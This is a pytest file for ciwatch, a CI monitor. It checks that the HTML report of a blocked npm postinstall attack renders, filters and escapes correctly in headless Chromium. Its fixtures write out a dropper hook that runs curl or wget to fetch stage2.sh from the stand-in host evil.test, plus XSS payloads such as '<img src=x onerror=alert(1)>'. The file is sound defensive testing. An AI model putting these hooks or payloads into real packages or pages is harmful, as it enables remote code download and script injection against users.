"""The HTML report (``ciwatch/report/html.py``) as a person sees it: the report of a real
attack re-enactment opened in headless Chromium, driven by Playwright.

The attack: an npm package whose ``postinstall`` runs ``sh``, which runs ``curl`` (``wget`` as
fallback) to evil.test, installed by the real npm under ``ciwatch run --mode block``: the proxy
refuses the host. The page must show the hook, its package, the shell, the downloader and the
refused host; its process tree must expand, a finding's lineage must show, and the host filter
must narrow the egress table. Screenshots at a laptop's width and a phone's are saved under the
test's tmp dir (their paths printed: ``pytest -s``).

Everything the build chose is escaped: a hostile package name, argv or host can't add markup or
script to the page (checked on a report built by hand, and in the browser: no dialog opens).
"""

from __future__ import annotations

import dataclasses
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from ciwatch.policy.loader import resolve_policy
from ciwatch.record import read_record
from ciwatch.record.events import DnsQuery, Event, FileWrite, Header, ProcessExec, ProcessStart
from ciwatch.record.reader import Record, record_from_events
from ciwatch.record.vocabulary import FileOp
from ciwatch.report.html import render_html
from ciwatch.report.model import Report, build_report, group_findings
from ciwatch.verdict import RULE_CATALOGUE, evaluate
from tests.support.attacks import DEFAULT_POLICY, Watched, npm_install, npm_project, watch
from tests.support.internet import EVIL, TestInternet

PACKAGE = "evil-postinstall"
VERSION = "1.0.0"
#: What a dropper's postinstall does: a shell, then a downloader to a host the job never uses.
PAYLOAD = (
    f"curl -s -m 5 https://{EVIL}/stage2.sh -o /tmp/stage2.sh"
    f" || wget -q -T 5 https://{EVIL}/stage2.sh -O /tmp/stage2.sh; true"
    # argv the page shows in its process tree: it must stay text.
    ' ; echo "<img src=x onerror=alert(3)>" >/dev/null'
)
if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Page, Request

LAPTOP = (1366, 900)
PHONE = (390, 844)


def _attack(internet: TestInternet, root: Path) -> Watched:
    internet.serve(EVIL, "/stage2.sh", "#!/bin/sh\necho owned\n")
    internet.publish_npm(
        PACKAGE,
        VERSION,
        package_json_extra={"scripts": {"postinstall": f"sh -c '{PAYLOAD}'"}},
    )
    project = npm_project(root / "project")
    return watch(
        internet,
        root / "home",
        project,
        root / "out",
        npm_install(f"{PACKAGE}@{VERSION}"),
        policy=DEFAULT_POLICY,
        mode="block",
    )


def html_of(out: Path) -> str:
    record = read_record(out)
    policy = resolve_policy(out, DEFAULT_POLICY, "block", known_rules=RULE_CATALOGUE)
    report = build_report(record, evaluate(record, policy))
    return render_html(report, record=record)


@pytest.fixture(scope="module")
def attack(test_internet: TestInternet, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The attack's record, made once for this module: its ``--out`` directory."""
    test_internet.reset_logs()
    watched = _attack(test_internet, tmp_path_factory.mktemp("attack"))
    assert watched.verdict["verdict"] == "fail" and watched.verdict["refusals"] > 0, watched.described()
    assert not test_internet.requests_to(EVIL), "block mode let the payload reach evil.test"
    return watched.out


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.fail("chromium is not installed; .ci/run installs it")
    try:
        from playwright import sync_api
    except ImportError:
        pytest.fail("playwright is not installed; .ci/run installs it (the test extras)")
    with sync_api.sync_playwright() as playwright:
        # The system's chromium: Playwright never downloads a browser here.
        launched = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield launched
        launched.close()


def _open(browser: Browser, page_html: str, tmp_path: Path, size: tuple[int, int]) -> tuple[Page, list[str]]:
    """The report opened from a file, as a person opens it; every dialog it opens and every
    request it makes (there must be none) are collected."""
    path = tmp_path / "report.html"
    path.write_text(page_html)
    page = browser.new_page(viewport={"width": size[0], "height": size[1]})
    events: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        events.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def on_request(request: Request) -> None:
        if request.url != path.as_uri():
            events.append(f"request {request.url}")

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    page.goto(path.as_uri())
    return page, events


def _screenshot(page: Page, tmp_path: Path, name: str) -> Path:
    shot = tmp_path / name
    page.screenshot(path=str(shot))
    print(f"screenshot: {shot}")
    return shot


def _in_view(page: Page, selector: str, size: tuple[int, int]) -> None:
    box = page.locator(selector).bounding_box()
    assert box is not None, selector
    assert box["y"] >= 0 and box["y"] + box["height"] <= size[1], f"{selector} is below the first screen: {box}"


def test_the_attack_in_one_view_at_a_laptops_and_a_phones_width(browser: Browser, attack: Path, tmp_path: Path) -> None:
    for size in (LAPTOP, PHONE):
        page, events = _open(browser, html_of(attack), tmp_path, size)
        verdict = page.locator("header.verdict")
        assert "FAIL" in verdict.inner_text()
        first = page.locator("#findings article.finding").first
        steps = first.locator(".lineage li").all_inner_texts()
        # The hook, its package, the shell, the downloader, and the refused host: one card.
        assert any(step == f"postinstall of {PACKAGE}@{VERSION}" for step in steps), steps
        assert any(step.startswith("sh") for step in steps), steps
        assert steps[-1].split()[0] in ("curl", "wget"), steps
        assert EVIL in first.inner_text() and first.locator(".badge.refused").is_visible()
        _in_view(page, "#findings article.finding >> nth=0", size)
        # Nothing overflows the page sideways (tables scroll inside their cards).
        assert page.evaluate("document.documentElement.scrollWidth") <= size[0]
        _screenshot(page, tmp_path, f"attack-{size[0]}.png")
        page.screenshot(path=str(tmp_path / f"attack-{size[0]}-full.png"), full_page=True)
        assert page.locator("img").count() == 0 and "<img src=x" in (page.locator(".tree").text_content() or "")
        assert events == []
        page.close()


def test_the_tree_expands_and_a_lineage_step_opens_it(browser: Browser, attack: Path, tmp_path: Path) -> None:
    page, events = _open(browser, html_of(attack), tmp_path, LAPTOP)
    downloader = page.locator(".tree .hit").filter(has_text="curl").first
    assert downloader.is_visible(), "the path to a finding is open when the page loads"
    page.locator("button[data-tree=close]").click()
    assert not downloader.is_visible()
    root = page.locator(".tree > details > summary").first
    assert "npm install" in root.inner_text()
    root.click()
    hook = page.locator(".tree .badge.hook").first
    assert hook.is_visible() and f"{PACKAGE}@{VERSION}" in hook.inner_text()
    assert not downloader.is_visible(), "only one level opened"
    # The finding's lineage links each step to its process: its last step opens the tree to it.
    page.locator("#findings .finding").filter(has_text="ran network tool curl").locator(".lineage a").last.click()
    assert downloader.is_visible()
    assert page.locator(".tree .target").count() == 1 and "curl" in page.locator(".tree .target").inner_text()
    assert events == []


def test_the_host_filter_narrows_the_egress_table(browser: Browser, attack: Path, tmp_path: Path) -> None:
    page, events = _open(browser, html_of(attack), tmp_path, LAPTOP)
    rows = page.locator("#egress-table tbody tr")
    total = rows.count()
    assert total > 2
    page.locator("#f-host").fill(EVIL)
    shown = [r for r in rows.all() if r.is_visible()]
    assert 0 < len(shown) < total
    assert all(EVIL in r.inner_text() and "refused" in r.inner_text() for r in shown)
    assert page.locator("#egress-shown").inner_text() == f"{len(shown)} of {total}"
    page.locator("#f-host").fill("")
    page.locator("#f-status").select_option("allowed")
    allowed = [r for r in rows.all() if r.is_visible()]
    assert allowed and all(EVIL not in r.inner_text() for r in allowed)
    page.locator("#f-status").select_option("")
    page.locator("#f-hook").select_option(f"postinstall of {PACKAGE}@{VERSION}")
    assert all(EVIL in r.inner_text() for r in rows.all() if r.is_visible())
    assert events == []


HOSTILE = '<img src=x onerror=alert(1)>"><script>alert(2)</script>'


def _hostile(report: Report) -> Report:
    """The real report with a package name, host, argv and lineage no registry would accept."""
    counted = [
        dataclasses.replace(f, package=HOSTILE, host=HOSTILE, message=HOSTILE, lineage=f"npm > {HOSTILE}")
        for f in report.verdict.counted
    ]
    hooks = [dataclasses.replace(h, package=HOSTILE, spawned=[HOSTILE]) for h in report.hooks]
    run = dataclasses.replace(report.run, command=["npm", "install", HOSTILE], cwd=HOSTILE)
    return dataclasses.replace(
        report, run=run, hooks=hooks, verdict=dataclasses.replace(report.verdict, counted=counted)
    )


def test_what_the_build_chose_is_text_not_markup(browser: Browser, attack: Path, tmp_path: Path) -> None:
    record = read_record(attack)
    report = build_report(
        record, evaluate(record, resolve_policy(attack, DEFAULT_POLICY, "block", known_rules=RULE_CATALOGUE))
    )
    for page_html in (render_html(_hostile(report), record=record), render_html(_hostile(report))):
        assert "<img" not in page_html and "<script>alert" not in page_html
        assert "&lt;img src=x onerror=alert(1)&gt;&quot;&gt;&lt;script&gt;" in page_html
        page, events = _open(browser, page_html, tmp_path, LAPTOP)
        assert page.locator("img").count() == 0 and page.locator("script").count() == 1
        assert HOSTILE in page.locator("#hooks").inner_text()
        assert HOSTILE in page.locator("#findings").inner_text()
        assert events == [], "the page opened a dialog or fetched something"
        page.close()


def test_a_record_with_bytes_that_were_not_utf8_renders(attack: Path) -> None:
    record = read_record(attack)
    report = build_report(
        record, evaluate(record, resolve_policy(attack, DEFAULT_POLICY, "block", known_rules=RULE_CATALOGUE))
    )
    odd = dataclasses.replace(report, run=dataclasses.replace(report.run, command=["npm", "i", "caf\udce9\x1b[2J"]))
    page_html = render_html(odd, record=record)
    page_html.encode("utf-8")  # a lone surrogate would raise here, when the file is written
    assert "caf\\udce9\\x1b[2J" in page_html


def _big_build(header: Header, hooks: int, chain: int) -> Record:
    """A build of ``4 * hooks + chain + 1`` processes made by hand: ``hooks`` postinstall hooks
    that each run node, curl to a CDN and cc, and a chain of ``chain`` nested shells deeper
    than Python's recursion limit."""
    events: list[tuple[int, float, Event]] = [(1, 0.0, header)]

    def add(event: Event) -> None:
        events.append((len(events) + 1, float(len(events)), event))

    def spawn(pid: int, ppid: int, argv: list[str], env: dict[str, str] | None = None) -> None:
        add(ProcessStart(pid=pid, ppid=ppid))
        add(ProcessExec(pid=pid, path=argv[0], exe=argv[0], argv=argv, cwd="/p", env=env or {}))

    spawn(100, 1, ["node", "/usr/bin/npm", "ci"])
    for n in range(hooks):
        pid = 1000 + 4 * n
        env = {"npm_package_name": f"pkg{n}", "npm_package_version": "1.0.0", "npm_lifecycle_event": "postinstall"}
        spawn(pid, 100, ["sh", "-c", "node install.js"], env)
        spawn(pid + 1, pid, ["node", "install.js"])
        add(FileWrite(pid=pid + 1, op=FileOp.CREAT, path=f"/p/node_modules/pkg{n}/build/out.o"))
        spawn(pid + 2, pid + 1, ["curl", "-s", f"https://cdn{n % 50}.example.test/x"])
        add(DnsQuery(pid=pid + 2, name=f"cdn{n % 50}.example.test", qtype="A", server="10.0.0.53", port=53))
        spawn(pid + 3, pid + 1, ["cc", "-c", "x.c"])
    for depth in range(chain):
        spawn(100_000 + depth, 100_000 + depth - 1 if depth else 100, ["sh", "-c", f"level {depth}"])
    return record_from_events(events)


def test_a_2000_process_build_makes_a_page_of_a_reasonable_size(browser: Browser, attack: Path, tmp_path: Path) -> None:
    record = _big_build(read_record(attack).header, hooks=200, chain=1200)
    policy = resolve_policy(attack, DEFAULT_POLICY, "audit", known_rules=RULE_CATALOGUE)
    report = build_report(record, evaluate(record, policy))
    page_html = render_html(report, record=record)
    assert page_html.count('class="proc') + page_html.count('class="leaf') == 2001
    assert page_html.count("<article") == 50 < len(report.verdict.counted), "past 50, findings are table rows"
    assert len(re.findall(r'id="f[0-9]+"', page_html)) == len(group_findings(report.verdict.counted))
    # Measured: 750 KB here; 1.2 MB for 2,000 processes with 1,500 findings.
    assert len(page_html.encode()) < 2_000_000
    page, events = _open(browser, page_html, tmp_path, LAPTOP)
    page.locator("button[data-tree=open]").click()
    deepest = page.locator(".tree").get_by_text("level 1199", exact=False)
    assert deepest.is_visible()
    # 1,200 nested shells don't push the page sideways: deep levels stop indenting.
    assert page.evaluate("document.documentElement.scrollWidth") <= LAPTOP[0]
    box = deepest.bounding_box()
    assert box is not None and box["x"] + box["width"] <= LAPTOP[0]
    assert events == []


def test_the_markdown_summary_of_a_2000_process_build_fits_githubs_step_summary(attack: Path) -> None:
    # GitHub refuses a step summary over 1 MiB; `ciwatch summary` caps at 1000 KiB by default.
    from ciwatch.report.markdown import NamedReport, render_many

    record = _big_build(read_record(attack).header, hooks=500, chain=0)  # 2,001 processes
    policy = resolve_policy(attack, DEFAULT_POLICY, "audit", known_rules=RULE_CATALOGUE)
    report = build_report(record, evaluate(record, policy))
    whole = render_many([NamedReport("build", report)])
    capped = render_many([NamedReport("build", report)], artifact="ciwatch-records", max_bytes=1000 * 1024)
    assert len(capped.encode()) <= 1024 * 1024
    assert capped.splitlines()[0].startswith("## ") and "ciwatch:" in capped.splitlines()[0]  # the verdict first
    if len(whole.encode()) > 1000 * 1024:
        assert "ciwatch-records" in capped  # cut, with a pointer to the artifact
    assert capped.count("<details") == capped.count("</details>")
